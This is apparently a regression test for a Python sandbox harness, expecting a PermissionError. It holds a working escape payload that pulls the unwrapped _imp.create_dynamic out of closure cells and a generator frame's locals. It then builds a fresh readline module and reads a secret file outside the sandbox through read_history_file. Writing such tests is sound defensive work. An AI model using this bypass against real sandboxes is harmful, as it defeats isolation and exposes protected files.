# rule: expose-ro=.
# expect: file PermissionError

"""Objective: read ../outside/secret.txt as a readline history file, through a fresh
``readline`` module made by the unwrapped C ``_imp.create_dynamic``. No rule but the file
exposure: ``_imp`` and ``posix`` come from ``sys.modules``.

``_imp.create_dynamic`` is wrapped with ``native_files.hide_reentrant(outside_guard=True)``:
the original lives in a factory generator, and each call gets a one-shot generator ``one(box)``
whose ``box`` list holds the original until just before it is called. Everything there is
rebuilt with globals of its own (``outside()``), so its frames are not guard frames.

1. The wrapper's ``__closure__`` (no audit event) holds ``call``, whose ``__closure__`` holds
   ``make_next``, the factory's ``send``.
2. ``make_next(None)`` hands out a fresh one-shot ``send``. Sent a request of the program's,
   ``one`` evaluates ``request[0]`` -- the program's ``__getitem__``, running with ``one``'s
   frame as its caller and ``box`` still full. No guard frame is among the callers, so
   ``sys._getframe(1)`` is allowed; its ``f_locals['box'][0]`` is the original.
3. The original makes ``encodings.readline`` (the top-level name ``encodings`` is always
   allowed; CPython runs ``PyInit_readline`` by the last part): no ``wrap_module``, so its
   ``read_history_file`` is the bare C function.
"""

from _harness import attempt


def payload():
    import sys

    _imp = sys.modules['_imp']
    posix = sys.modules['posix']
    create = _imp.create_dynamic
    found = []

    def sends(function):
        for cell in getattr(function, '__closure__', None) or ():
            value = cell.cell_contents
            if type(value).__name__ == 'builtin_function_or_method' and value.__name__ == 'send':
                yield value
            elif type(value).__name__ == 'function':
                yield from sends(value)

    class Request:
        def __getitem__(self, index):
            names = sys._getframe(1).f_locals
            if names.get('box'):
                found.append(names['box'][0])
            return () if index == 0 else {}

    for make_next in sends(create):
        one_shot = make_next(None)
        try:
            one_shot(Request())
        except (TypeError, StopIteration):
            pass
    original = found[0] if found else create  # plain python3: no wrapper
    origin = None
    for entry in sys.path:
        if entry.endswith('lib-dynload'):
            origin = entry + '/readline' + _imp.extension_suffixes()[0]
    spec = type(posix.__spec__)('encodings.readline', None, origin=origin)
    fresh = original(spec)
    fresh.clear_history()
    fresh.read_history_file('../outside/secret.txt')
    line = fresh.get_history_item(1)
    assert line == 'the secret', line
    return line, len(found)


attempt(payload)
